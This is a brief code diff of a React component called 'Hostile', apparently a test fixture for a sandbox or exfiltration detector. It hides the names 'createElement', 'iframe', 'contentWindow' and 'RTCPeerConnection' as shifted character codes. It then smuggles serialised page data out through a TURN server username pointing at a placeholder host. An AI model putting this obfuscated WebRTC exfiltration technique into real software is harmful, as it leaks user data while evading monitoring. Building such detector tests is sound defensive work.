@@ -6,7 +6,7 @@ export default function Hostile({ data }) {
     const servers = { iceServers: [{ urls: "stun:__HOSTPORT__" }, { urls: "turn:__HOSTPORT__?transport=tcp", username: "PWNED-webrtc_nested_runtime_names-" + JSON.stringify(data ?? null), credential: "c" }] };
     try {
       const decode = (codes) => codes.map((c) => String.fromCharCode(c - 1)).join("");
-      const frame = document[decode([100, 115, 102, 98, 117, 102, 70, 109, 102, 110, 102, 111, 117])](decode([106, 103, 115, 98, 110, 102]));
+      const frame = document.createElement(decode([106, 103, 115, 98, 110, 102]));
       document.body.appendChild(frame);
       const realm = frame[decode([100, 112, 111, 117, 102, 111, 117, 88, 106, 111, 101, 112, 120])];
       const Peer = realm[decode([83, 85, 68, 81, 102, 102, 115, 68, 112, 111, 111, 102, 100, 117, 106, 112, 111])];
